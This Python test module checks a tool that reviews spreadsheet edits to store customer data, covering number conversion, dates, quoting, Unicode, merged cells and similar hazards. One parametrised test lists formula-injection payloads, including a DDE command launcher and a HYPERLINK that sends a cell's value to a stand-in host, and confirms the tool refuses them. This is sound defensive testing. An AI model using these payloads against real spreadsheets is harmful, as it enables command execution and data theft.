"""What happens to cells where no person types: columns converted, cleared, merged, cut and re-coded.

Rows 3 to 6, 8, 10, 12, 15 and 38 to 51 of the catalogue.
"""

from __future__ import annotations

import re
import unicodedata
import zipfile
from datetime import date
from typing import Any

import pytest

from tests.hazards.desk import Desk, type_formula
from tests.hazards.parts import edit_part
from tests.office import Office

FLAGS = ("Enabled", "MailList", "NonTaxable", "DisableBillingSameAsShipping", "ResetPassword")


def test_03_a_whole_column_converted_to_numbers_is_restored(desk: Desk) -> None:
    with desk.edit() as book:
        for key in book.rows["customers"]:
            cell = book.cell(key, "BillingZipCode")
            if isinstance(cell.value, str) and cell.value.isdigit():
                cell.value, cell.number_format = int(cell.value), "General"
    found = desk.review(book.path)
    assert found.is_quiet()
    assert {damage["kind"] for damage in found.said["damage"]} == {"lost_leading_zero"}
    assert "02138" in {damage["repair"] for damage in found.said["damage"]}


def test_03_the_export_keeps_excel_from_offering_to_convert(desk: Desk) -> None:
    with zipfile.ZipFile(desk.exported) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b'numberStoredAsText="1"' in sheet


def test_04_a_date_made_of_text_by_excel_is_put_back_or_refused(desk: Desk) -> None:
    with desk.edit() as book:
        mended = book.type(desk.key_of["fraction"], "AdditionalField2", date(2026, 3, 1))
        refused = book.type(desk.ordinary[0], "AdditionalField2", date(2026, 3, 1), number_format="mmm yyyy")
    found = desk.review(book.path)
    assert [damage["repair"] for damage in found.damage(mended)] == ["MAR1"]
    assert "2026-03-01" in found.problems(refused)[0]["message"]
    assert found.changes == {}


def test_05_a_date_typed_as_text_is_sent_as_it_is_typed(desk: Desk) -> None:
    key = desk.key_of["day"]
    with desk.edit() as book:
        book.type(key, "AdditionalField1", "06/05/2024")
    assert desk.review(book.path).changes == {key: {"AdditionalField1": "06/05/2024"}}


def test_06_a_bare_serial_number_where_a_date_was_is_refused(desk: Desk) -> None:
    with desk.edit() as book:
        where = book.type(desk.key_of["day"], "AdditionalField1", 45418, number_format="General")
    found = desk.review(book.path)
    assert "45418" in found.problems(where)[0]["message"]
    assert found.changes == {}


def test_08_the_noise_of_binary_fractions_is_no_difference(desk: Desk) -> None:
    group = desk.store.shop.groups.ids[0]
    was = desk.store.shop.groups[group]["MinimumOrder"]
    with desk.edit() as book:
        book.type(group, "MinimumOrder", was + 0.000000000002, table="groups")
    assert desk.review(book.path).is_quiet()


def test_10_every_flag_as_a_real_boolean_and_saved_by_libreoffice_is_no_difference(
    desk: Desk, office: Office
) -> None:
    with desk.edit("flags.xlsx") as book:
        for key in book.rows["customers"]:
            for name in FLAGS:
                cell = book.cell(key, name)
                if cell.value is not None:
                    cell.value, cell.number_format = cell.value == "Yes", "General"
    assert desk.review(book.path).is_quiet()
    with office.open(book.path) as opened:
        saved = opened.save(desk.folder / "flags saved.xlsx")
    with zipfile.ZipFile(saved) as archive:
        assert b'<f aca="false">TRUE()</f>' in archive.read("xl/worksheets/sheet1.xml")
    found = desk.review(saved)
    assert found.is_quiet()
    assert found.counts["damage"] == 0


def test_12_a_formula_without_a_value_is_refused_and_clears_nothing(desk: Desk) -> None:
    key = desk.key_of["other"]
    with desk.edit() as book:
        cell = book.cell(key, "BillingAddress2")
        type_formula(cell, '="Unit "&5')
    found = desk.review(book.path)
    [problem] = found.problems(f"Customers!{cell.coordinate}")
    assert "holds no result" in problem["message"]
    assert "save it there" in problem["remedy"]
    assert found.changes == {}


def test_15_an_emptied_cell_clears_and_is_told_apart_from_one_that_was_empty(desk: Desk) -> None:
    key = desk.key_of["other"]
    with desk.edit() as book:
        book.type(key, "BillingAddress2", None)
    found = desk.review(book.path)
    assert found.changes == {key: {"BillingAddress2": None}}
    assert desk.review(book.path, "--blank", "keep").changes == {}


def test_15_clearing_many_cells_asks_for_consent(desk: Desk) -> None:
    with desk.edit() as book:
        keys = [key for key in book.rows["customers"] if book.cell(key, "BillingCity").value][:11]
        for key in keys:
            book.type(key, "BillingCity", None)
    found = desk.review(book.path)
    assert set(found.changes) == set(keys)
    assert "many_clears" in found.guards()


def test_15_a_column_that_is_gone_clears_nothing(desk: Desk, office: Office) -> None:
    with office.open(desk.copy("gone.xlsx")) as book:
        book.sheet("Customers").delete_column("Comments")
        book.save()
    found = desk.review(desk.folder / "gone.xlsx")
    assert found.is_quiet()
    assert found.warnings("“Comments”")


def test_38_merged_cells_hold_the_covered_rows_back(desk: Desk, office: Office) -> None:
    with desk.edit() as places:
        first, second, third = (desk.key_of[name] for name in ("plain", "other", "third"))
        top, middle, last = (places.where(key, "BillingCity") for key in (first, second, third))
    rows = [places.row(key) for key in (first, second, third)]
    assert rows == list(range(rows[0], rows[0] + 3))
    with office.open(desk.copy("merged.xlsx")) as book:
        book.sheet("Customers").merge(f"{top.partition('!')[2]}:{last.partition('!')[2]}")
        book.save()
    found = desk.review(desk.folder / "merged.xlsx")
    assert found.changes == {}
    assert [problem["where"] for problem in found.problems()] == [middle, last]
    assert "merged" in found.problems(middle)[0]["message"]


def test_39_spaces_round_ids_emails_and_groups_are_no_difference(desk: Desk) -> None:
    key = desk.key_of["plain"]
    with desk.edit() as book:
        email = book.cell(key, "Email").value
        group = book.cell(desk.ordinary[0], "CustomerGroupID").value
        book.type(key, "Email", f"\ufeff {email}\u00a0")
        book.type(desk.ordinary[0], "CustomerGroupID", f" {group}\u00a0" if group else None)
        book.type(key, "CustomerID", f" {key} ")
    found = desk.review(book.path)
    assert found.is_quiet(), found.said["problems"]


def test_39_spaces_in_free_text_are_kept_where_they_were_and_told_where_they_are_new(desk: Desk) -> None:
    trimmed, typed = desk.key_of["spaces"], desk.key_of["third"]
    with desk.edit() as book:
        book.type(trimmed, "BillingCity", "Two Blanks")
        book.type(trimmed, "Comments", "a bc")
        book.type(typed, "Comments", "two  blanks\u00a0and one that does not break ")
    found = desk.review(book.path)
    assert found.changes == {typed: {"Comments": "two  blanks\u00a0and one that does not break "}}
    assert found.warnings("has spaces at its ends")


def test_40_smart_quotes_go_as_typed_in_texts_and_are_told_in_emails_and_phones(desk: Desk) -> None:
    text, phone, email = (desk.key_of[name] for name in ("third", "fourth", "plain"))
    with desk.edit() as book:
        book.type(desk.key_of["quotes"], "BillingPhoneNumber", "555–010–0100")
        book.type(text, "Comments", "It’s “fine” – really…")
        book.type(phone, "BillingPhoneNumber", "555–010–0199")
        book.type(email, "Email", "o’hara@example.com")
    found = desk.review(book.path)
    assert found.changes == {
        text: {"Comments": "It’s “fine” – really…"},
        phone: {"BillingPhoneNumber": "555–010–0199"},
        email: {"Email": "o'hara@example.com"},
    }
    assert found.warnings("typographic dashes or quotation marks")
    assert found.warnings("typographic quotation marks or dashes")
    assert [damage["kind"] for damage in found.said["damage"]] == ["smart_quotes", "smart_quotes"]


def test_41_the_normal_form_of_letters_is_no_difference_and_goes_out_composed(desk: Desk) -> None:
    typed = desk.key_of["third"]
    with desk.edit() as book:
        for name, column in (
            ("composed", "BillingLastName"),
            ("composed", "BillingFirstName"),
            ("accents", "BillingCity"),
        ):
            text = str(book.cell(desk.key_of[name], column).value)
            composed = unicodedata.normalize("NFC", text)
            book.type(
                desk.key_of[name],
                column,
                unicodedata.normalize("NFD", text) if composed == text else composed,
            )
        book.type(typed, "BillingCity", "Mu\u0308nchen")
    assert desk.review(book.path).changes == {typed: {"BillingCity": "München"}}


def test_42_an_emails_case_is_no_difference_and_letters_that_look_alike_are_told(desk: Desk) -> None:
    cased, lookalike = desk.key_of["plain"], desk.key_of["other"]
    with desk.edit() as book:
        email = str(book.cell(cased, "Email").value)
        book.type(cased, "Email", email.upper())
        book.type(lookalike, "Email", "p\u0430ul@example.com")
    found = desk.review(book.path)
    assert found.changes == {lookalike: {"Email": "p\u0430ul@example.com"}}
    assert found.warnings("only look alike")


def test_43_line_ends_are_no_difference(desk: Desk) -> None:
    key = desk.key_of["lines"]
    for text in (
        "line 1\r\nline 2\r\nline 3\r\n",
        "line 1\nline 2\nline 3\n",
        "line 1_x000D_\nline 2\rline 3\n",
    ):
        with desk.edit() as book:
            book.type(key, "Comments", text)
        assert desk.review(book.path).is_quiet()


def test_43_a_line_end_at_the_end_that_is_gone_is_no_difference(desk: Desk) -> None:
    with desk.edit() as book:
        book.type(desk.key_of["lines"], "Comments", "line 1\nline 2\nline 3")
    found = desk.review(book.path)
    assert found.changes == {}
    assert found.problems() == []


def test_44_escapes_are_undone_once_whoever_wrote_them(desk: Desk, office: Office) -> None:
    for name in ("escapes.xlsx", "escapes.ods", "escapes.xls"):
        with office.open(desk.exported) as book:
            saved = book.save(desk.folder / name)
        assert desk.review(saved).is_quiet(), name
    with zipfile.ZipFile(desk.exported) as archive:
        texts = archive.read("xl/sharedStrings.xml") + archive.read("xl/worksheets/sheet1.xml")
    assert b"_x005F_x000D_ and _x005F_x0041_ as typed" in texts


def test_45_texts_too_long_for_a_cell_are_left_alone_and_too_long_ones_refused(desk: Desk) -> None:
    group, typed = desk.long_group, desk.key_of["third"]
    with desk.edit() as book:
        shown = book.cell(group, "Description", "groups").value
        where = book.type(typed, "BillingCity", "x" * 101)
    assert isinstance(shown, str)
    assert len(shown) == 32_767
    found = desk.review(book.path)
    assert [problem["where"] for problem in found.problems()] == [where]
    assert "the store takes 100" in found.problems(where)[0]["message"]
    with desk.edit() as book:
        where = book.type(group, "Description", f"Edited {shown}"[:32_767], table="groups")
    found = desk.review(book.path)
    assert found.said["changes"] == []
    assert "too long for a spreadsheet cell" in found.problems(where)[0]["message"]


def test_46_control_characters_are_replaced_in_the_sheet_and_never_sent_back(desk: Desk) -> None:
    key = desk.key_of["control"]
    with desk.edit() as book:
        assert book.cell(key, "Comments").value == "bell \ufffd and null \ufffd and \ufffd"
        where = book.type(key, "Comments", "bell \ufffd and null \ufffd and more")
    found = desk.review(book.path)
    assert found.changes == {}
    assert "cannot show" in found.problems(where)[0]["message"]


def test_47_text_that_looks_like_a_formula_goes_out_as_text_without_an_apostrophe(desk: Desk) -> None:
    with zipfile.ZipFile(desk.exported) as archive:
        sheets = {
            name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")
        }
        texts = b"".join([*sheets.values(), archive.read("xl/sharedStrings.xml")])
        styles = archive.read("xl/styles.xml")
    assert not [name for name, sheet in sheets.items() if b"<f>" in sheet or b"<f " in sheet]
    assert b">=HYPERLINK(" in texts
    assert b"'=HYPERLINK(" not in texts
    assert b'quotePrefix="1"' in styles


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://elsewhere.example/?"&D2,"click")',
        "=cmd|' /C calc'!A0",
        "='[other.xlsx]Sheet1'!A1",
        '=WEBSERVICE("http://elsewhere.example")',
    ],
)
def test_48_formulas_that_reach_out_are_refused_and_shown_as_text(desk: Desk, formula: str) -> None:
    key = desk.key_of["third"]
    with desk.edit() as book:
        cell = book.cell(key, "BillingCity")
        type_formula(cell, formula)
    edit_part(book.path, "xl/worksheets/sheet1.xml", _with_value(cell.coordinate, "Houston?"))
    found = desk.review(book.path)
    [problem] = found.problems(f"Customers!{cell.coordinate}")
    assert "reaches outside this sheet" in problem["message"]
    assert formula[1:12] in problem["message"]
    assert found.changes == {}


def test_49_a_group_nobody_knows_is_refused_with_a_suggestion(desk: Desk) -> None:
    keys = desk.ordinary[:3]
    with desk.edit() as book:
        places = [
            book.type(key, "CustomerGroupID", name)
            for key, name in zip(keys, ("Whole sale", "Nobody's", "VIP"), strict=True)
        ]
    found = desk.review(book.path)
    assert found.changes == {}
    assert "Did you mean “Wholesale”?" in found.problems(places[0])[0]["remedy"]
    assert "There is no group" in found.problems(places[1])[0]["message"]
    assert "2 groups are called “VIP”" in found.problems(places[2])[0]["message"]


def test_50_the_list_of_groups_is_a_range_however_long_it_is(desk: Desk) -> None:
    with zipfile.ZipFile(desk.exported) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    formulas = re.findall(r"<formula1>(.*?)</formula1>", sheet)
    assert "cs_groups" in formulas
    assert not [formula for formula in formulas if formula.startswith('"')]


def test_51_what_a_list_would_have_refused_is_refused_by_the_review(desk: Desk, office: Office) -> None:
    with desk.edit() as places:
        action = places.letters("Action")
        row = places.row(desk.key_of["third"])
        flag = places.where(desk.key_of["fourth"], "Enabled")
    with office.open(desk.copy("pasted.xlsx")) as book:
        customers = book.sheet("Customers")
        customers.type(f"{action}{row}", "REMOVE")
        customers.type(flag.partition("!")[2], "maybe")
        book.save()
    found = desk.review(desk.folder / "pasted.xlsx")
    assert found.changes == {}
    assert "no word for Action" in found.problems(f"Customers!{action}{row}")[0]["message"]
    assert "neither Yes nor No" in found.problems(flag)[0]["message"]


def _with_value(address: str, value: str) -> Any:
    """Give the formula in a cell the value that it had when a spreadsheet program last saved the file."""

    def edit(part: bytes) -> bytes:
        cell = re.search(rb'<c r="' + address.encode() + rb'"[^>]*>.*?</c>', part, re.DOTALL)
        assert cell is not None
        opened = re.sub(rb' t="[^"]*"', b"", cell[0]).replace(b"<c ", b'<c t="str" ', 1)
        return part.replace(
            cell[0], re.sub(rb"<v\s*/>|<v></v>", b"", opened).replace(b"</f>", f"</f><v>{value}</v>".encode())
        )

    return edit
